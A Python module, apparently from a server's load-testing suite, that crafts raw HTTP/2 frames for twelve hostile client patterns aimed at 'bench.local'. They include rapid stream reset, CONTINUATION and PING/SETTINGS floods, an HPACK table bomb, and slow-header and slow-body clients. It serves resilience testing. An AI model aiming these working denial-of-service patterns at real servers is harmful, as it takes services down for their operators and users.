"""Hostile clients of HTTP/2, for `load/hostile`: floods of useless frames, and slow clients."""

import asyncio
import random
from collections.abc import Awaitable, Callable
from functools import partial

#: The work of a connection, until it is cancelled.
Doing = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


_OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0)
_NO_WINDOW = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"\0\4" + bytes(4))
_GET = b"\x82\x86\x84\x01\x0bbench.local"
_POST = b"\x83\x86\x84\x01\x0bbench.local"
_BLOB = b"\x82\x86\x04\5/blob\x01\x0bbench.local"
#: It puts a field of 4 KB into the dynamic table. Each byte 0xBE after it stands for that field.
_BOMB = _GET + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
_HUNDRED = range(1, 201, 2)


def _post(stream: int) -> bytes:
    return _frame(1, 4, stream, _POST)


async def _flood(
    opening: bytes, series: Callable[[int], bytes], reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Send a series of frames again and again, until the server ends the connection."""
    writer.write(_OPENING + opening)
    reading = asyncio.create_task(reader.read())
    number = 3
    while not reading.done():
        writer.write(b"".join(series(number + 2 * each) for each in range(20)))
        number += 40
        await writer.drain()
        await asyncio.sleep(0)
    await asyncio.sleep(random.uniform(0.02, 0.08))  # so that the connections do not act in step


async def _stay(opening: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send `opening`, and wait until the server ends the connection."""
    writer.write(opening)
    while await reader.read(65_536):
        pass


def _flooding(series: Callable[[int], bytes], opening: bytes = b"") -> tuple[Doing, int]:
    return partial(_flood, opening, series), 4


def _staying(opening: bytes) -> tuple[Doing, int]:
    return partial(_stay, opening), 20


KINDS: dict[str, tuple[Doing, int]] = {
    "reset": _flooding(lambda n: _post(n) + _frame(3, 0, n, b"\0\0\0\x08")),
    "made-reset": _flooding(lambda n: _post(n) + _frame(8, 0, n, bytes(4))),
    "continuation": _flooding(lambda _: _frame(9, 0, 1), _frame(1, 1, 1, _GET)),
    "hpack-bomb": _flooding(lambda n: _frame(1, 5, n, _GET + b"\xbe" * 16_000), _frame(1, 5, 1, _BOMB)),
    "settings": _flooding(lambda _: _frame(4, 0, 0)),
    "ping": _flooding(lambda _: _frame(6, 0, 0, bytes(8))),
    "empty-data": _flooding(lambda _: _frame(0, 0, 1), _post(1)),
    "window-update": _flooding(lambda _: _frame(8, 0, 0, b"\0\0\0\1")),
    "priority": _flooding(lambda _: _frame(2, 0, 1, b"\0\0\0\0\1")),
    "no-window": _staying(_NO_WINDOW + b"".join(_frame(1, 5, n, _BLOB) for n in _HUNDRED)),
    "slow-heads": _staying(_OPENING + _frame(1, 0, 1, b"\x82")),
    "slow-bodies": _staying(_OPENING + b"".join(_post(n) + _frame(0, 0, n, b"x") for n in _HUNDRED)),
}
